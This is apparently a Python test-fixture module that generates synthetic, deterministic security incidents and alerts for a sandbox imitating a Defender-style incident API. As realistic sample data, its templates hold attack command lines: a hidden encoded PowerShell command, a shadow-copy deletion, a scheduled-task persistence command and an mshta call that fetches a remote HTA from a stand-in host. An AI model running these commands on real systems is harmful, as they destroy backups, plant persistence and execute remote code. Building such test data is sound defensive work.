"""Deterministic, realistic incidents for a tenant.

Everything is derived from the tenant id and the incident's position, so a tenant always gets the same
incidents (timestamps aside: incident ``i`` was created about ``i`` x 2.7 hours before the sandbox started,
newest first). The first N incidents do not depend on how many are generated, except for their ids.

Each incident, and the tenant's profile, has a second random stream for the properties added later (priority
score, summary, alert policies, device addresses, ...), so that adding them did not change the values of the first
stream; properties that follow from values already drawn (a custom detection's details, a process's parent, a
security group's distinguished name) draw nothing. An incident's time stamps
share one precision (whole seconds, milliseconds or microseconds), so that answers carry 0 to 7 fraction
digits as real ones do.

Incidents added while the sandbox runs (``new_incident``) are drawn the same way, each from streams of its own
seeded by the tenant id and its sequence number, so the n-th added incident is always the same but for its
time stamps.
"""
from __future__ import annotations

import dataclasses
import datetime
import random
import uuid
from dataclasses import dataclass
from typing import Optional

from .model import PRODUCT_NAMES, SEVERITIES, Alert, Comment, Device, Entity, Incident

HOURS_BETWEEN_INCIDENTS = 2.7


@dataclass(frozen=True)
class AlertTemplate:
    title: str
    description: str
    category: str
    techniques: tuple
    service: str
    detection: str
    entities: tuple  # entity types, see _Incident.entity
    threat_family: Optional[str] = None


@dataclass(frozen=True)
class IncidentTemplate:
    title: str
    description: Optional[str]
    weight: int
    severities: dict  # severity -> weight
    alerts: tuple  # the first always fires, then at least ``min_alerts`` in order
    min_alerts: int = 1
    devices: int = 1
    system_tags: tuple = ()
    file_name: str = "payload.exe"
    command_line: str = "cmd.exe /c whoami /all"


_A = AlertTemplate
TEMPLATES = (
    IncidentTemplate(
        "Multi-stage incident involving Execution & Credential access on one endpoint",
        "Hands-on-keyboard activity: an encoded PowerShell command was followed by an attempt to read "
        "credentials from LSASS memory.",
        14, {"high": 6, "medium": 3}, (
            _A("Suspicious PowerShell command line", "A suspicious PowerShell command line was run on the device.",
               "Execution", ("T1059.001",), "endpoint", "edr", ("Process", "File", "User")),
            _A("Suspicious access to LSASS service", "A process accessed the memory of the LSASS service, "
               "a common step to steal credentials.", "CredentialAccess", ("T1003.001",), "endpoint", "edr",
               ("Process", "User")),
            _A("'Mimikatz' credential theft tool", "The Mimikatz credential theft tool was detected.",
               "CredentialAccess", ("T1003", "T1558.003"), "endpoint", "antivirus", ("File", "User"), "Mimikatz"),
        ), min_alerts=2, file_name="Invoke-Update.ps1",
        command_line="powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
    IncidentTemplate(
        "Suspicious email forwarding activity",
        "A mailbox started forwarding mail to an external address after a sign-in from an unusual location.",
        12, {"medium": 5, "low": 3}, (
            _A("Suspicious email forwarding activity", "A user set up a rule that forwards mail to an external "
               "address.", "Exfiltration", ("T1114.003",), "cloudapps", "cloudapps", ("User", "MailBox", "Ip")),
            _A("Suspicious inbox manipulation rule", "An inbox rule that moves or deletes messages was created.",
               "DefenseEvasion", ("T1564.008",), "cloudapps", "cloudapps", ("User", "MailBox")),
            _A("Email messages containing malicious URL removed after delivery", "Messages with a malicious URL "
               "were removed from mailboxes after delivery.", "InitialAccess", ("T1566.002",), "office", "office",
               ("MailMessage", "Url", "MailBox")),
        ), devices=0, system_tags=("BEC Fraud",)),
    IncidentTemplate(
        "Ransomware activity on multiple endpoints",
        "Files were encrypted and backups deleted on several devices; the activity matches human-operated "
        "ransomware.", 4, {"high": 1}, (
            _A("Ransomware behavior detected in the file system", "A process changed many files in a way typical "
               "of ransomware.", "Impact", ("T1486",), "endpoint", "edr", ("File", "Process", "User")),
            _A("File backups were deleted", "Shadow copies were deleted to prevent recovery.", "Impact",
               ("T1490",), "endpoint", "edr", ("Process",)),
            _A("Suspicious remote activity", "A device was accessed remotely with administrative tools.",
               "LateralMovement", ("T1021.002", "T1570"), "endpoint", "edr", ("Ip", "User", "Process")),
            _A("Possible ransomware infection modifying multiple files", "Antivirus blocked a file that "
               "encrypts files.", "Impact", ("T1486",), "endpoint", "antivirus", ("File",)),
        ), min_alerts=2, devices=3, system_tags=("Ransomware", "Human-operated ransomware"),
        file_name="svc_update.exe", command_line="vssadmin.exe delete shadows /all /quiet"),
    IncidentTemplate(
        "Email reported by user as malware or phish",
        None, 10, {"informational": 5, "low": 2}, (
            _A("Email reported by user as malware or phish", "A user reported a message as malware or phish.",
               "InitialAccess", ("T1566",), "office", "office", ("MailMessage", "MailBox", "Url")),
        ), devices=0, system_tags=("Phishing",)),
    IncidentTemplate(
        "Phishing campaign with URL clicks involving multiple users",
        "Several users received a credential phishing message and some clicked the link.",
        8, {"medium": 4, "high": 2}, (
            _A("A potentially malicious URL click was detected", "A user clicked a URL that was later found to "
               "be malicious.", "InitialAccess", ("T1566.002",), "office", "office", ("Url", "MailBox", "User")),
            _A("Email messages containing phish URLs removed after delivery", "Phishing messages were removed "
               "after delivery.", "InitialAccess", ("T1566.002",), "office", "office",
               ("MailCluster", "MailMessage", "Url")),
            _A("Anonymous IP address", "A sign-in came from an anonymous proxy or Tor exit node.",
               "InitialAccess", ("T1078",), "entra", "entra", ("User", "Ip")),
        ), devices=0, system_tags=("Credential Phish",)),
    IncidentTemplate(
        "Impossible travel activity involving one user",
        None, 10, {"medium": 3, "low": 4}, (
            _A("Impossible travel activity", "The same user signed in from two distant places within minutes.",
               "InitialAccess", ("T1078",), "cloudapps", "cloudapps", ("User", "Ip", "Ip")),
            _A("Unfamiliar sign-in properties", "A sign-in had properties not seen before for this user.",
               "InitialAccess", ("T1078",), "entra", "entra", ("User", "Ip")),
        ), devices=0),
    IncidentTemplate(
        "Suspected brute-force attack (LDAP) on one endpoint",
        "Many failed LDAP authentications from one device, followed by a change to a sensitive group.",
        6, {"medium": 3, "high": 2}, (
            _A("Suspected Brute Force attack (LDAP)", "A device made many failed LDAP authentication attempts.",
               "CredentialAccess", ("T1110", "T1110.003"), "identity", "identity", ("User", "Ip")),
            _A("Suspicious additions to sensitive groups", "A user was added to a sensitive security group.",
               "Persistence", ("T1098",), "identity", "identity", ("User", "SecurityGroup")),
        )),
    IncidentTemplate(
        "'Wacatac' malware was detected on one endpoint",
        None, 10, {"low": 4, "medium": 3, "informational": 1}, (
            _A("'Wacatac' malware was detected", "Microsoft Defender Antivirus detected 'Wacatac' malware.",
               "Malware", ("T1204.002",), "endpoint", "antivirus", ("File", "Process"), "Wacatac"),
            _A("'Wacatac' malware was prevented", "Microsoft Defender Antivirus prevented 'Wacatac' malware "
               "from running.", "Malware", ("T1204.002",), "endpoint", "antivirus", ("File",), "Wacatac"),
        ), file_name="invoice_0424.exe"),
    IncidentTemplate(
        "Persistence incident involving one user on one endpoint",
        "A program registered itself to start at sign-in and created a scheduled task.",
        7, {"medium": 4, "low": 2}, (
            _A("Anomaly detected in ASEP registry", "A process added an autostart entry to the registry.",
               "Persistence", ("T1547.001",), "endpoint", "edr", ("Registry", "Process", "File")),
            _A("Suspicious Task Scheduler activity", "A scheduled task was created to run a suspicious program.",
               "Persistence", ("T1053.005",), "endpoint", "edr", ("Process", "File")),
        ), file_name="OneDriveUpdater.exe",
        command_line='schtasks.exe /create /sc onlogon /tn "OneDrive Updater" /tr OneDriveUpdater.exe'),
    IncidentTemplate(
        "Potentially unwanted application detected on one endpoint",
        None, 8, {"informational": 4, "low": 2}, (
            _A("'BundleInstaller' unwanted software was detected", "Potentially unwanted software was detected.",
               "SuspiciousActivity", ("T1204",), "endpoint", "antivirus", ("File",), "BundleInstaller"),
        ), file_name="BundleInstaller.exe"),
    IncidentTemplate(
        "Office application spawned a rare process (custom detection)",
        "Raised by the custom detection rule 'Office child process' written by the SOC.",
        6, {"unknown": 3, "medium": 2, "informational": 1}, (
            _A("Office child process", "An Office application started mshta.exe.", "Execution",
               ("T1218.005",), "endpoint", "custom", ("Process", "File", "User")),
        ), file_name="mshta.exe", command_line="mshta.exe https://cdn.docs-share.example/view.hta"),
    IncidentTemplate(
        "Mass download by a single user",
        None, 5, {"low": 3, "medium": 2}, (
            _A("Mass download by a single user", "A user downloaded an unusually large number of files from "
               "SharePoint in a short time.", "Exfiltration", ("T1530",), "cloudapps", "cloudapps", ("User", "Ip")),
        ), devices=0),
)

RECOMMENDED_ACTIONS = {
    "endpoint": "1. Check the process tree of the device. 2. Isolate the device if the activity is not expected. "
                "3. Run a full antivirus scan.",
    "office": "1. Review the message and its URLs. 2. Soft-delete similar messages. 3. Reset the credentials of "
              "users who clicked.",
    "identity": "1. Verify the source device. 2. Reset the password of the affected account. 3. Review group "
                "membership changes.",
    "cloudapps": "1. Contact the user. 2. Revoke sessions and reset the password if the activity is not expected.",
    "entra": "1. Confirm the sign-in with the user. 2. Require a password change and MFA re-registration.",
}
FIRST_NAMES = ("Adele", "Alex", "Diego", "Grady", "Isaiah", "Johanna", "Lee", "Lidia", "Lynne", "Megan", "Miriam",
               "Nestor", "Patti", "Pradeep", "Joni", "Henrietta", "Irvin", "Debra", "Enrico", "Christie")
LAST_NAMES = ("Vance", "Wilber", "Siciliani", "Archie", "Langer", "Lauer", "Gu", "Holloway", "Robbins", "Bowen",
              "Graham", "Wilke", "Fernandez", "Gupta", "Sherman", "Mueller", "Sayre", "Berger", "Cattaneo", "Cline")
DEVICE_KINDS = (  # name prefix, department, device group, platform, build, version
    ("ws", "fin", "Finance", "Windows11", 22631, "23H2"), ("ws", "hr", "Human Resources", "Windows11", 22631, "23H2"),
    ("lt", "eng", "Engineering", "Windows10", 19045, "22H2"), ("lt", "sales", "Sales", "Windows10", 19045, "22H2"),
    ("srv", "app", "Servers", "WindowsServer2022", 20348, "21H2"),
    ("dc", "core", "Domain Controllers", "WindowsServer2019", 17763, "1809"),
)
ATTACKER_NETWORKS = (("203.0.113.", "NL"), ("198.51.100.", "BR"), ("192.0.2.", "SG"))
# Country letter code -> Graph's geoLocation of the attacker's address
ATTACKER_LOCATIONS = {
    "NL": {"city": "Amsterdam", "state": "North Holland", "countryName": "Netherlands", "latitude": 52.3676,
           "longitude": 4.9041},
    "BR": {"city": "Sao Paulo", "state": "Sao Paulo", "countryName": "Brazil", "latitude": -23.5558,
           "longitude": -46.6396},
    "SG": {"city": "Singapore", "state": None, "countryName": "Singapore", "latitude": 1.2897, "longitude": 103.8501},
}
# The tenant's egress addresses (a device's lastExternalIpAddress): the benchmarking range 198.18.0.0/15, apart from
# the documentation ranges the attackers use
EGRESS_NETWORK = "198.18."
BAIT_DOMAINS = ("secure-mail-portal.example", "docs-share.example", "billing-notice.example")
MAIL_SUBJECTS = ("Action required: your password expires today", "Invoice #48213 is overdue",
                 "Shared document: Q3 budget review", "You have a new voicemail (0:42)",
                 "DocuSign: please review and sign")
SECURITY_GROUPS = (("Domain Admins", "512"), ("Enterprise Admins", "519"), ("Account Operators", "548"))
GROUP_CONTAINERS = {"Account Operators": "Builtin"}  # the others are in CN=Users
CUSTOM_TAGS = ("VIP", "Finance", "Pen test", "Phishing campaign", "Needs follow-up", "Tier2", "Executive")
COMMENTS = ("Investigating; device isolated pending review.", "Confirmed with the user, waiting for logs.",
            "Escalated to tier 2.", "Password reset and sessions revoked.", "Blocked the sender domain.",
            "Checked related alerts on other devices: none found.", "Added to the weekly phishing review.")
RESOLUTION_COMMENTS = {
    "truePositive": "Confirmed malicious; contained and remediated.",
    "falsePositive": "False positive: IT administration script.",
    "informationalExpectedActivity": "Expected activity (approved test or business tool).",
    "unknown": "Closed after review.",
}
DETERMINATIONS_BY_CLASSIFICATION = {
    "truePositive": ("multiStagedAttack", "maliciousUserActivity", "compromisedAccount", "malware", "phishing",
                     "unwantedSoftware", "other"),
    "informationalExpectedActivity": ("securityTesting", "lineOfBusinessApplication", "confirmedActivity",
                                      "other"),
    "falsePositive": ("notMalicious", "notEnoughDataToValidate", "other"),
}
# Microseconds an incident's time stamps are truncated to -> weight: 1 keeps them (7 digits, the 7th a zero),
# 1000 leaves milliseconds (1-3 digits once trailing zeros go), 10 ** 6 whole seconds (no fraction).
TIME_PRECISIONS = {1: 6, 1000: 3, 10 ** 6: 2}
PRIORITY_SCORES = {"high": (70, 100), "medium": (40, 79), "low": (15, 49), "informational": (0, 24)}
# Services whose alerts come from a policy (alertPolicyId)
POLICY_SERVICES = ("office", "cloudapps")
# Process image -> the process that started it (others: explorer.exe), for evidence and DeviceProcessEvents
PARENT_PROCESSES = {"mshta.exe": "WINWORD.EXE", "powershell.exe": "cmd.exe", "vssadmin.exe": "svc_update.exe",
                    "schtasks.exe": "OneDriveUpdater.exe"}
PROGRAM_FOLDERS = {"WINWORD.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16",
                   "cmd.exe": "C:\\Windows\\System32", "explorer.exe": "C:\\Windows"}


def parent_process(image: str) -> str:
    """The file name of the process that started a process of file name ``image``."""
    return PARENT_PROCESSES.get(image, "explorer.exe")


@dataclass(frozen=True)
class Person:
    display_name: str
    account: str
    upn: str
    sid: str
    aad_id: str


class TenantProfile:
    """The people, devices and analysts of one tenant, shared by all its incidents."""

    def __init__(self, tenant, start: datetime.datetime):
        rng = random.Random(f"{tenant.id}/profile")
        more = random.Random(f"{tenant.id}/profile/more")  # the second stream, see the module doc
        self.tenant = tenant
        self.domain = tenant.primary_domain
        self.netbios = tenant.name.upper().replace(" ", "")[:15]
        self.analysts = tuple(f"{name}@{self.domain}" for name in ("analyst", "tier2.responder", "secops.lead"))
        self.sid_base = "S-1-5-21-" + "-".join(str(rng.randint(10 ** 8, 4 * 10 ** 9)) for dummy in range(3))
        self.people = tuple(self._person(rng, 1100 + number) for number in range(24))
        self.egress = f"{EGRESS_NETWORK}{more.randint(0, 255)}.{more.randint(1, 254)}"
        self.devices = tuple(self._device(rng, more, start, n) for n in range(30))

    def _person(self, rng: random.Random, rid: int) -> Person:
        first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
        account = f"{first[0]}{last}".lower()
        return Person(f"{first} {last}", account, f"{first}.{last}@{self.domain}".lower(), f"{self.sid_base}-{rid}",
                      _uuid(rng))

    def _device(self, rng: random.Random, more: random.Random, start: datetime.datetime, number: int) -> Device:
        """Device ``number``; its network addresses come from the second stream ``more``."""
        kind = number % len(DEVICE_KINDS)
        prefix, department, group, platform, build, version = DEVICE_KINDS[kind]
        user = rng.choice(self.people)
        return Device(
            device_id=_hex(rng, 40), aad_device_id=_uuid(rng),
            dns_name=f"{prefix}-{department}-{number + 1:03d}.{self.domain}", os_platform=platform, os_build=build,
            version=version, rbac_group=group,
            risk_score=rng.choice(("None", "Low", "Medium", "High")),
            first_seen=start - datetime.timedelta(days=rng.randint(60, 700), minutes=rng.randint(0, 1440)),
            logged_on_user=(user.account, self.netbios), nt_domain=self.netbios,
            last_ip=f"10.{10 + kind}.{more.randint(0, 15)}.{more.randint(2, 254)}", last_external_ip=self.egress,
        )


def generate(tenant, count: int, start: datetime.datetime) -> list:
    """``count`` incidents for ``tenant``, newest first; ids count down from the newest."""
    profile = TenantProfile(tenant, start)
    id_base = first_incident_id(tenant)
    ids = [id_base + count - 1 - position for position in range(count)]
    return [_Incident(profile, ids, position, start).build() for position in range(count)]


def first_incident_id(tenant) -> int:
    """The id of a tenant's oldest generated incident (the others count up from it)."""
    return random.Random(f"{tenant.id}/ids").randint(10_000, 900_000)


def new_incident(profile: TenantProfile, incident_id: int, sequence: int, moment: datetime.datetime,
                 severity: Optional[str] = None, status: Optional[str] = None,
                 taken: frozenset = frozenset()) -> Incident:
    """Incident number ``sequence`` (0, 1, ...) of those added to the tenant while the sandbox runs, drawn like the
    generated ones from a stream of its own: created and last updated at ``moment``, as are its 1 to 3 alerts, to
    the microsecond. ``severity`` and ``status`` (default ``active``) replace the drawn ones; alert ids in ``taken``
    are drawn again."""
    return _NewIncident(profile, incident_id, sequence, moment).build_new(severity, status, taken)


class _Incident:
    """Builds incident number ``position`` (0 = newest) from its own random stream (``seed``: another stream)."""

    def __init__(self, profile: TenantProfile, ids: list, position: int, start: datetime.datetime,
                 seed: Optional[str] = None):
        seed = seed or f"{profile.tenant.id}/{position}"
        self.profile = profile
        self.ids = ids
        self.position = position
        self.start = start
        self.rng = random.Random(seed)
        self.more = random.Random(f"{seed}/more")  # the second stream, see the module doc
        self.template = self.rng.choices(TEMPLATES, weights=[t.weight for t in TEMPLATES])[0]
        self.user = self.rng.choice(profile.people)
        self.devices = self._devices()
        network, self.country = self.rng.choice(ATTACKER_NETWORKS)
        self.attacker_ip = f"{network}{self.rng.randint(2, 250)}"
        self.bait_domain = self.rng.choice(BAIT_DOMAINS)
        self.subject = self.rng.choice(MAIL_SUBJECTS)
        self.file_hashes = (_hex(self.rng, 40), _hex(self.rng, 64))

    def build(self) -> Incident:
        rng = self.rng
        created = self.start - datetime.timedelta(hours=self.position * HOURS_BETWEEN_INCIDENTS,
                                                  minutes=rng.uniform(5, 35))
        status = self._status()
        updated = self._last_updated(created, status)
        severity = _weighted(rng, self.template.severities)
        classification, determination = self._verdict(status)
        assigned_to = self._assignee(status)
        alerts = self._alerts(created, updated, status, severity, classification, determination, assigned_to)
        custom_tags = self._custom_tags()  # the first stream's order: tags, comments, redirect target
        comments = self._comments(created, updated, status, classification)
        redirect_id = self._redirect_target() if status == "redirected" else None
        incident = Incident(
            id=self.ids[self.position], tenant_id=self.profile.tenant.id, title=self.template.title,
            description=self.template.description, created=created, last_updated=updated, status=status,
            severity=severity, classification=classification, determination=determination,
            assigned_to=assigned_to, custom_tags=custom_tags, system_tags=self.template.system_tags,
            comments=comments, redirect_id=redirect_id, alerts=alerts, last_modified_by=self._last_modified_by(status, assigned_to, comments),
            priority_score=self._priority_score(status, severity),
            resolving_comment=RESOLUTION_COMMENTS[classification] if status == "resolved" else None,
            summary=self._summary(alerts),
        )
        return _truncated(incident, _weighted(self.more, TIME_PRECISIONS))

    # --- incident-level choices ------------------------------------------------------------------------------

    def _status(self) -> str:
        status = _weighted(self.rng, {"active": 40, "inProgress": 17, "resolved": 38, "redirected": 5})
        return "active" if status == "redirected" and self.position == 0 else status

    def _redirect_target(self) -> int:
        """A redirected incident was merged into a newer one."""
        return self.ids[self.rng.randint(max(0, self.position - 8), self.position - 1)]

    def _last_updated(self, created: datetime.datetime, status: str) -> datetime.datetime:
        rng = self.rng
        if rng.random() < 0.15:  # touched recently, whatever its age
            updated = self.start - datetime.timedelta(minutes=rng.uniform(1, 20 * 60))
        elif status == "active":
            updated = created + datetime.timedelta(minutes=rng.uniform(1, 12 * 60))
        else:
            updated = created + datetime.timedelta(minutes=rng.uniform(10, 3 * 24 * 60))
        latest = self.start - datetime.timedelta(seconds=rng.uniform(30, 1800))
        return max(min(updated, latest), created + datetime.timedelta(minutes=1))

    def _verdict(self, status: str) -> tuple:
        weights = {
            "resolved": {"unknown": 15, "truePositive": 35, "falsePositive": 20, "informationalExpectedActivity": 30},
            "inProgress": {"unknown": 80, "truePositive": 20},
            "active": {"unknown": 92, "truePositive": 8},
        }.get(status, {"unknown": 1})
        classification = _weighted(self.rng, weights)
        if classification == "unknown":
            return classification, "unknown"
        return classification, self.rng.choice(DETERMINATIONS_BY_CLASSIFICATION[classification])

    def _last_modified_by(self, status: str, assigned_to: Optional[str], comments: tuple) -> Optional[str]:
        """The analyst who last touched the incident; None if no one has since it was created."""
        if comments:
            return comments[-1].author
        if status == "active" and assigned_to is None:
            return None
        return assigned_to or self.more.choice(self.profile.analysts)

    def _priority_score(self, status: str, severity: str) -> Optional[int]:
        """0-100 from the severity; None for merged (redirected) incidents and those of unknown severity."""
        if status == "redirected" or severity not in PRIORITY_SCORES:
            return None
        return self.more.randint(*PRIORITY_SCORES[severity])

    def _summary(self, alerts: tuple) -> Optional[str]:
        """A summary like the portal's for about half of the incidents with more than one alert."""
        if len(alerts) < 2 or self.more.random() < 0.5:
            return None
        products = sorted({PRODUCT_NAMES[alert.service] for alert in alerts})
        subject = self.devices[0].dns_name if self.devices else self.user.upn
        titles = "; ".join(alert.title for alert in alerts)
        return (f"{len(alerts)} alerts from {' and '.join(products)} about {subject}: {titles}. The first was "
                f"raised at {alerts[0].created:%Y-%m-%d %H:%M} UTC.")

    def _assignee(self, status: str) -> Optional[str]:
        chance = {"resolved": 0.9, "inProgress": 1.0, "active": 0.35}.get(status, 0.0)
        if self.rng.random() >= chance:
            return None
        return self.rng.choices(self.profile.analysts, weights=(55, 30, 15))[0]

    def _custom_tags(self) -> tuple:
        count = self.rng.choices((0, 1, 2), weights=(55, 35, 10))[0]
        return tuple(self.rng.sample(CUSTOM_TAGS, count))

    def _comments(self, created, updated, status: str, classification: str) -> tuple:
        rng = self.rng
        chance = {"resolved": 0.55, "inProgress": 0.55, "active": 0.15}.get(status, 0.0)
        if rng.random() >= chance:
            return ()
        texts = rng.sample(COMMENTS, rng.randint(1, 2 if status == "active" else 3))
        if status == "resolved":
            texts.append(RESOLUTION_COMMENTS[classification])
        moments = sorted(_between(rng, created, updated) for dummy in texts)
        return tuple(Comment(text, rng.choice(self.profile.analysts), moment) for text, moment in zip(texts, moments))

    def _devices(self) -> tuple:
        wanted = self.template.devices
        if wanted > 1:
            wanted = self.rng.randint(2, wanted)
        return tuple(self.rng.sample(self.profile.devices, wanted))

    # --- alerts ----------------------------------------------------------------------------------------------

    def _alerts(self, created, updated, status, severity, classification, determination, assigned_to,
                most: int = 4) -> tuple:
        rng = self.rng
        templates = self.template.alerts
        count = rng.randint(self.template.min_alerts, min(most, len(templates)))
        moments = [created] + sorted(_between(rng, created, updated) for dummy in range(count - 1))
        alerts = []
        for number, (template, moment) in enumerate(zip(templates[:count], moments)):
            alert_severity = severity if number == 0 else self._lesser_severity(severity)
            alerts.append(self._alert(template, moment, updated, status, alert_severity, classification,
                                      determination, assigned_to))
        return tuple(alerts)

    def _lesser_severity(self, severity: str) -> str:
        ceiling = SEVERITIES.index(severity)
        return SEVERITIES[self.rng.randint(min(1, ceiling), ceiling)]

    def _alert(self, template: AlertTemplate, created, incident_updated, incident_status, severity,
               classification, determination, assigned_to) -> Alert:
        rng = self.rng
        updated = _between(rng, created, incident_updated)
        status = self._alert_status(incident_status)
        resolved = status == "resolved"
        first_activity = created - datetime.timedelta(minutes=rng.uniform(1, 90))
        is_endpoint = template.service == "endpoint"
        return Alert(
            id=_alert_id(rng, template.service), title=template.title, description=template.description,
            category=template.category, techniques=template.techniques, service=template.service,
            detection=template.detection, severity=severity, status=status,
            classification=classification if resolved else "unknown",
            determination=determination if resolved else "unknown", assigned_to=assigned_to, created=created,
            last_updated=updated, resolved=updated if resolved else None, first_activity=first_activity,
            last_activity=_between(rng, first_activity, created), devices=self.devices if is_endpoint else (),
            entities=tuple(self.entity(kind, first_activity) for kind in template.entities),
            detector_id=_stable_uuid(template.title),
            threat_family=template.threat_family, actor=None,
            investigation_id=rng.randint(1000, 99999) if is_endpoint else None,
            investigation_state=self._investigation_state(status) if is_endpoint else "unsupportedAlertType",
            recommended_actions=RECOMMENDED_ACTIONS.get(template.service, ""),
            categories=(template.category,), system_tags=self.template.system_tags,
            policy_id=_stable_uuid(f"policy/{template.title}") if template.service in POLICY_SERVICES else None,
            additional_data=self._additional_data(template),
            custom_details=self._custom_details(template),
        )

    def _custom_details(self, template: AlertTemplate) -> Optional[dict]:
        """The columns a custom detection rule shows with its alerts (customDetails); None for other alerts."""
        if template.detection != "custom":
            return None
        image = self.template.command_line.split(" ", 1)[0]
        return {"InitiatingProcessFileName": parent_process(image), "FileName": image,
                "ProcessCommandLine": self.template.command_line}

    def _additional_data(self, template: AlertTemplate) -> dict:
        """The open dictionary ``additionalData``: what a product adds beyond the schema."""
        if template.service == "endpoint" and self.devices:
            device = self.devices[0]
            return {"DeviceGroup": device.rbac_group, "OsPlatform": device.os_platform}
        if template.service in POLICY_SERVICES:
            return {"PolicyName": template.title, "AlertCount": self.more.randint(1, 12)}
        return {}

    def _alert_status(self, incident_status: str) -> str:
        if incident_status == "resolved":
            return "resolved"
        if incident_status == "inProgress":
            return self.rng.choice(("new", "inProgress"))
        return "new"

    def _investigation_state(self, status: str) -> str:
        if status == "resolved":
            return self.rng.choice(("successfullyRemediated", "benign", "terminatedBySystem"))
        return self.rng.choice(("running", "pendingApproval", "partiallyRemediated"))

    # --- entities --------------------------------------------------------------------------------------------

    def entity(self, kind: str, moment: datetime.datetime) -> Entity:
        """One entity of ``kind`` about this incident's user, devices, file and attacker."""
        device = self.devices[0] if self.devices else None
        verdict = self.rng.choice(("suspicious", "malicious")) if kind in ("File", "Process", "Url") else "unknown"
        details = {"verdict": verdict, "remediation": "prevented" if kind == "File" and verdict == "malicious"
                   else "none"}
        builders = {"User": self._user_values, "Ip": self._ip_values, "Url": self._url_values,
                    "File": self._file_values, "Process": self._process_values, "MailBox": self._mailbox_values,
                    "MailMessage": self._mailmessage_values, "MailCluster": self._mailcluster_values,
                    "Registry": self._registry_values, "SecurityGroup": self._securitygroup_values}
        values = builders[kind](moment, details)
        if device is not None and kind in ("File", "Process", "Registry"):
            values["deviceId"] = device.device_id
        return Entity({"entityType": kind, **values}, details)

    def _user_values(self, moment, details) -> dict:
        details.update(display_name=self.user.display_name, roles=["compromised"])
        return {"accountName": self.user.account, "domainName": self.profile.netbios, "userSid": self.user.sid,
                "aadUserId": self.user.aad_id, "userPrincipalName": self.user.upn}

    def _ip_values(self, moment, details) -> dict:
        details.update(country=self.country, location=ATTACKER_LOCATIONS[self.country], roles=["attacker"])
        return {"ipAddress": self.attacker_ip}

    def _url_values(self, moment, details) -> dict:
        return {"url": f"https://{self.bait_domain}/auth/{_hex(self.rng, 8)}"}

    def _file_values(self, moment, details) -> dict:
        details.update(size=self.rng.randint(20_000, 4_000_000))
        sha1, sha256 = self.file_hashes
        return {"sha1": sha1, "sha256": sha256, "fileName": self.template.file_name, "filePath": self._temp_folder()}

    def _temp_folder(self) -> str:
        return f"C:\\Users\\{self.user.account}\\AppData\\Local\\Temp"

    def _process_values(self, moment, details) -> dict:
        parent_started = moment - datetime.timedelta(seconds=self.rng.randint(5, 3600))
        image = self.template.command_line.split(" ", 1)[0]
        details.update(parent_image=self._parent_image(parent_process(image)))
        return {"fileName": image, "filePath": "C:\\Windows\\System32", "sha1": _hex(self.rng, 40),
                "sha256": _hex(self.rng, 64), "processId": self.rng.randint(1000, 20000),
                "processCommandLine": self.template.command_line, "processCreationTime": moment,
                "parentProcessId": self.rng.randint(500, 9000), "parentProcessCreationTime": parent_started,
                "accountName": self.user.account, "domainName": self.profile.netbios, "userSid": self.user.sid}

    def _parent_image(self, name: str) -> dict:
        """The parent process's file: the incident's payload (its hashes known) or a Windows or Office program."""
        if name == self.template.file_name:
            sha1, sha256 = self.file_hashes
            return {"fileName": name, "filePath": self._temp_folder(), "sha1": sha1, "sha256": sha256}
        return {"fileName": name, "filePath": PROGRAM_FOLDERS[name], "sha1": None, "sha256": None}

    def _mailbox_values(self, moment, details) -> dict:
        return {"mailboxDisplayName": self.user.display_name, "mailboxAddress": self.user.upn,
                "userPrincipalName": self.user.upn, "aadUserId": self.user.aad_id}

    def _mailmessage_values(self, moment, details) -> dict:
        details.update(network_message_id=_uuid(self.rng), sender_ip=self.attacker_ip, received=moment,
                       internet_message_id=f"<{_hex(self.rng, 24)}@{self.bait_domain}>")
        return {"sender": f"no-reply@{self.bait_domain}", "recipient": self.user.upn, "subject": self.subject,
                "deliveryAction": self.rng.choice(("Delivered", "Blocked", "DeliveredAsSpam"))}

    def _mailcluster_values(self, moment, details) -> dict:
        details.update(email_count=self.rng.randint(3, 60), cluster_value=self.subject)
        return {"clusterBy": "Subject;SenderDomain"}

    def _registry_values(self, moment, details) -> dict:
        return {"registryHive": "HKEY_CURRENT_USER", "registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "registryValueType": "String",
                "registryValue": f"C:\\Users\\{self.user.account}\\AppData\\Local\\Temp\\{self.template.file_name}"}

    def _securitygroup_values(self, moment, details) -> dict:
        name, rid = self.rng.choice(SECURITY_GROUPS)
        domain = ",".join(f"DC={label}" for label in self.profile.domain.split("."))
        details.update(object_guid=_stable_uuid(f"{self.profile.tenant.id}/group/{rid}"),
                       distinguished_name=f"CN={name},CN={GROUP_CONTAINERS.get(name, 'Users')},{domain}")
        return {"securityGroupId": f"{self.profile.sid_base}-{rid}", "securityGroupName": name}


class _NewIncident(_Incident):
    """An incident that arrives while the sandbox runs: new, so untagged and without comments."""

    def __init__(self, profile: TenantProfile, incident_id: int, sequence: int, moment: datetime.datetime):
        seed = f"{profile.tenant.id}/new/{sequence}"
        super().__init__(profile, [incident_id], 0, moment, seed=seed)
        self.redraws = random.Random(f"{seed}/ids")  # its own stream: a redrawn alert id changes nothing else

    def build_new(self, severity: Optional[str], status: Optional[str], taken: frozenset) -> Incident:
        moment = self.start
        drawn = _weighted(self.rng, self.template.severities)  # drawn anyway: the other values stay the same
        severity, status = severity or drawn, status or "active"
        classification, determination = self._verdict(status)
        assigned_to = self._assignee(status)
        alerts = self._alerts(moment, moment, status, severity, classification, determination, assigned_to, most=3)
        alerts = tuple(self._unique(alert, taken) for alert in alerts)
        return Incident(
            id=self.ids[0], tenant_id=self.profile.tenant.id, title=self.template.title,
            description=self.template.description, created=moment, last_updated=moment, status=status,
            severity=severity, classification=classification, determination=determination, assigned_to=assigned_to,
            custom_tags=(), system_tags=self.template.system_tags, comments=(), redirect_id=None, alerts=alerts,
            last_modified_by=self._last_modified_by(status, assigned_to, ()),
            priority_score=self._priority_score(status, severity),
            resolving_comment=RESOLUTION_COMMENTS[classification] if status == "resolved" else None,
            summary=self._summary(alerts),
        )

    def _unique(self, alert: Alert, taken: frozenset) -> Alert:
        alert_id = alert.id
        while alert_id in taken:
            alert_id = _alert_id(self.redraws, alert.service)
        return alert if alert_id == alert.id else dataclasses.replace(alert, id=alert_id)


def _weighted(rng: random.Random, weights: dict) -> str:
    return rng.choices(list(weights), weights=list(weights.values()))[0]


def _truncated(value, microseconds: int):
